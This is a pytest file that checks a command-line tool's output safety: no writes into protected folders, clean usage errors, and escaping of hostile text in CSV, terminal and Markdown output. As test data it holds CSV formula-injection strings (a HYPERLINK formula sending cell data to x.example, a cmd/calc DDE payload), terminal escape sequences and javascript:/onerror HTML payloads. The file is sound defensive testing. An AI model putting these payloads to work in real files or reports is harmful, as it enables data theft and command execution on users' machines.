"""Output safety (issue #17): no write into the run or baseline folders, a target that cannot be
written is a one-line usage error, and attacker-controlled text never becomes live in a terminal,
a Markdown report or a spreadsheet."""

from __future__ import annotations

import csv
import io
import os
import re

import pytest

from tests.hostile.conftest import diagnose_json, npy_dump

EVIL_NAMES = ("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
              "\tTAB", "\x1b]0;TITLE\x07\x1b[2J")


@pytest.fixture
def dump_pair(tmp_path):
    manifest = [{"name": f"{n}.output.0", "file": f"{i:04d}_a.output.0.npy" if i == 0 else f"{i % 2:04d}_b.output.0.npy"}
                for i, n in enumerate(EVIL_NAMES)]
    npy_dump(tmp_path / "run" / "dump", manifest=manifest)
    npy_dump(tmp_path / "base" / "dump", manifest=manifest)
    return tmp_path / "run", tmp_path / "base"


def _one_line_usage(code, err):
    assert code == 2, err
    assert err.count("\n") == 1 and err.startswith("advisor: error:"), err


def test_compare_refuses_to_write_into_the_baseline(dump_pair, cli):
    run, base = dump_pair
    for target in (base / "dump" / "c.csv", base / "c.csv", run / "c.csv"):
        code, _out, err = cli("compare", run, base, "-o", target)
        _one_line_usage(code, err)
        assert not target.exists()


@pytest.mark.parametrize("cmd", ["diagnose", "compare"])
def test_output_that_cannot_be_written_is_a_usage_error(dump_pair, tmp_path, cli, cmd):
    run, base = dump_pair
    args = [run] if cmd == "diagnose" else [run, base]
    folder = tmp_path / "out.csv"
    folder.mkdir()
    loop = tmp_path / "loop.csv"
    loop.symlink_to("loop.csv")
    targets = [folder, tmp_path / "missing" / "r.csv", loop]
    if os.path.exists("/dev/full"):
        targets.append("/dev/full")
    for target in targets:
        extra = ["-f", "text"] if cmd == "diagnose" else []
        code, _out, err = cli(cmd, *args, "-o", target, *extra)
        _one_line_usage(code, err)


def test_csv_cells_never_start_a_formula(dump_pair, tmp_path, cli):
    run, base = dump_pair
    out_csv = tmp_path / "table.csv"
    code, _out, err = cli("compare", run, base, "-o", out_csv)
    assert code in (0, 1), err
    text = out_csv.read_text(encoding="utf-8")
    assert "\x1b" not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(EVIL_NAMES)
    for row in rows:
        for cell in row.values():
            if re.fullmatch(r"-?[0-9.e+-]+|-?inf|nan", cell):
                continue  # a number
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any(r["name"].startswith("'=HYPERLINK") for r in rows)


def test_compare_terminal_summary_has_no_escape_sequences(dump_pair, cli):
    run, base = dump_pair
    _code, out, err = cli("compare", run, base)
    assert "\x1b" not in out + err and "\x07" not in out + err


MD_PAYLOADS = ["[click](javascript:alert(1))", "![px](https://tracker.example/p.gif)", "<img src=x onerror=alert(1)>",
               "[ref]: https://evil.example", "\\[x](javascript:alert(2))"]


def test_markdown_report_has_no_live_link_image_or_html(run_dir, tmp_path, cli):
    from tests.hostile.test_rule_files import RULE

    rule = tmp_path / "md.yaml"
    evidence = " ".join(MD_PAYLOADS).replace("{", "{{").replace("}", "}}")
    rule.write_text(RULE.format(evidence=evidence.replace("\\", "\\\\")).replace("title: A rule whose evidence template is hostile",
                                                                          "title: '[t](javascript:alert(3)) <b onclick=x>'"))
    code, out, err = cli("diagnose", run_dir, "--rules", rule, "-f", "md")
    assert code == 0, err
    assert "alert(1)" in out  # the evidence is in the report ...
    unescaped = re.sub(r"\\\\", "", out)  # ... but every bracket of it is escaped: no link, image or reference
    assert not re.search(r"(?<!\\)\[[^\]\n]*(?<!\\)\]\(", unescaped), out
    assert not re.search(r"(?<!\\)\[[^\]\n]*(?<!\\)\]:", unescaped)
    assert "<img" not in out and "<b " not in out


def test_inputs_list_is_capped(run_dir, cli):
    for i in range(60):
        (run_dir / f"note{i:03d}.txt").write_text("x")
        (run_dir / f"empty{i:03d}.txt").touch()
    report = diagnose_json(cli, run_dir)
    ignored = [i for i in report["inputs"] if i["status"] == "ignored"]
    assert len(ignored) <= 11 and any("more files" in i["path"] for i in ignored)
    empty = [i for i in report["inputs"] if i["status"] == "unreadable" and i["why"] == "empty file"]
    assert len(empty) == 11 and empty[-1]["path"] == "(and 50 more files)"


@pytest.mark.slow
def test_fifty_thousand_ignored_files_give_a_small_report(run_dir, cli):
    many = run_dir / "many"
    many.mkdir()
    for i in range(50_000):
        (many / f"{i}.txt").touch()
    code, out, _err = cli("diagnose", run_dir, "-f", "json")
    assert code == 0 and len(out) < 200_000


def test_a_hard_link_or_a_second_path_to_the_run_is_refused(tmp_path, cli):
    # by file identity, not by path: a hard link to train.log, a symlinked name of the run folder
    run = tmp_path / "run"
    run.mkdir()
    (run / "train.log").write_text("step 1 loss 2.3\nstep 2 loss 2.1\n")
    link = tmp_path / "report.txt"
    os.link(run / "train.log", link)
    code, _out, err = cli("diagnose", run, "-o", link, "-f", "text")
    _one_line_usage(code, err)
    assert "hard link" in err and (run / "train.log").read_text().startswith("step 1")
    alias = tmp_path / "alias"
    alias.symlink_to(run, target_is_directory=True)
    code, _out, err = cli("diagnose", run, "-o", alias / "r.txt", "-f", "text")
    _one_line_usage(code, err)
    assert not (run / "r.txt").exists()


def test_a_failed_write_leaves_the_old_report_whole(tmp_path, cli, monkeypatch):
    run = tmp_path / "run"
    run.mkdir()
    (run / "train.log").write_text("step 1 loss 2.3\nstep 2 loss 2.1\n")
    out = tmp_path / "report.txt"
    out.write_text("the old report\n")

    def full(fd, *a, **k):
        raise OSError(28, "No space left on device")

    import advisor.atomic

    monkeypatch.setattr(advisor.atomic.os, "fdopen", full)
    code, _out, err = cli("diagnose", run, "-o", out, "-f", "text")
    _one_line_usage(code, err)
    assert out.read_text() == "the old report\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".report")] == []  # no temporary left
